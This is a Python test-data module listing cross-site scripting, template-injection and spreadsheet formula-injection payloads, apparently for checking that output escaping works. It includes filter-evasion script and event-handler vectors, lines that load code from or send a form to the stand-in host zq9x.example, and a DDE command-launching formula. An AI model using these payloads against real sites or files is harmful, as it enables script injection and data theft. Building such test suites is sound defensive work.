"""Texts that become a script, a formula or markup if they are not escaped."""

from __future__ import annotations

RUN = "zq9x(31337*31337)"
"""The code in each payload. Its product appears only if something ran it."""
PRODUCT = str(31_337 * 31_337)
MARK = "zq9x"

_TAGS = (
    f"<script>{RUN}</script>", f"<SCRIPT>{RUN}</SCRIPT>", f"<script >{RUN}</script >", f"<script\n>{RUN}</script>",
    f"<script/x>{RUN}</script>", f"<scr<script>ipt>{RUN}</script>", f"<<script>{RUN}//<</script>",
    f"<script>{RUN}", f"</script><script>{RUN}</script>", "<script src=//zq9x.example/x.js></script>",
    f"<script src=data:,{RUN}></script>", f"<script type=module>{RUN}</script>", f"<!--><script>{RUN}</script>-->",
    f"<![CDATA[<script>{RUN}</script>]]>", f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>", f"<xmp><script>{RUN}</script></xmp>",
    f"<style>@import 'javascript:{RUN}'</style>", "<style>*{background:url(//zq9x.example)}</style>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<object data=javascript:{RUN}></object>", f"<embed src=javascript:{RUN}>", "<base href=//zq9x.example/>",
    f"<meta http-equiv=refresh content=0;url=javascript:{RUN}>", "<link rel=stylesheet href=//zq9x.example/x.css>",
    "<form action=//zq9x.example><input name=zq9x></form>", f"<button formaction=javascript:{RUN}>x</button>",
    f"<isindex action=javascript:{RUN}>", "<plaintext>zq9x", "<textarea autofocus>zq9x", "<zq9x-b>zq9x</zq9x-b>",
    "<table background=javascript:zq9x>", "<frameset onload=zq9x()>", "<template><b>zq9x</b></template>",
    "<h1>zq9x</h1>", "<a href=//zq9x.example>zq9x</a>", "<dialog open>zq9x</dialog>",
)  # fmt: skip
_ENDS = (
    "</title><b>zq9x", f"</title><script>{RUN}</script>", f"</textarea><script>{RUN}</script>",
    f"</option></select><script>{RUN}</script>", f"</style><script>{RUN}</script>", f"--><script>{RUN}</script>",
    f"]]><script>{RUN}</script>", "</body></html>zq9x<",
)  # fmt: skip
_ATTRIBUTES = (
    f'"><script>{RUN}</script>', f"'><script>{RUN}</script>", f'" onmouseover="{RUN}', f"' onmouseover='{RUN}",
    f'" autofocus onfocus="{RUN}" x="', f"` onclick=`{RUN}", f'" style="background:url(javascript:{RUN})',
    f'"/onload={RUN}//', f"x onerror={RUN} ", f'\\"><img src=x onerror={RUN}>', f'"\n onclick="{RUN}',
    f'" formaction="javascript:{RUN}',
)  # fmt: skip
_EVENTS = (
    f"<img src=x onerror={RUN}>", f"<IMG SRC=x OnErRoR={RUN}>", f"<img/src=x/onerror={RUN}>",
    f"<body onload={RUN}>", f"<input autofocus onfocus={RUN}>", f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<marquee onstart={RUN}>x</marquee>",
    f"<p style=animation-name:x onanimationstart={RUN}>", f"<select autofocus onfocus={RUN}>",
)  # fmt: skip
_DRAWINGS = (
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>",
    f"<svg><script xlink:href=data:,{RUN} /></svg>", f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x></svg>", f"<svg><use href=data:image/svg+xml,{RUN}></svg>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>", f"<svg><style><img title='</style><b onclick={RUN}>'>",
)  # fmt: skip
_ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"&#106;avascript:{RUN}", f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>", "data:text/html;zq9x=1;base64,PHNjcmlwdD56cTl4KCk8L3NjcmlwdD4=",
    "//zq9x.example/",
)  # fmt: skip
_OTHER_LANGUAGES = (
    "{{ 31337*31337 }}zq9x", "{% debug %}zq9x", "${31337*31337}zq9x", "#{31337*31337}zq9x",
    '#eval("31337*31337")zq9x', "%(zq9x)s %s {0} {}", f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}",
    f"\\u003cscript\\u003e{RUN}", f"%3Cscript%3E{RUN}", f"＜script＞{RUN}＜/script＞", f"<\x00script>{RUN}</script>",
    "\u202e<b>zq9x</b>\u2066",
)  # fmt: skip

PAYLOADS = _TAGS + _ENDS + _ATTRIBUTES + _EVENTS + _DRAWINGS + _ADDRESSES + _OTHER_LANGUAGES

FORMULA_HEADS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", "\x00=", "＝", "＋", "－", "＠", " =", "\u00a0=", "\u200b=", "\ufeff=",
    "'=", '"=', ";=", "=cmd|' /C calc'!",
)  # fmt: skip
"""Twenty beginnings of cells that some spreadsheet runs as a formula, or that look escaped already."""
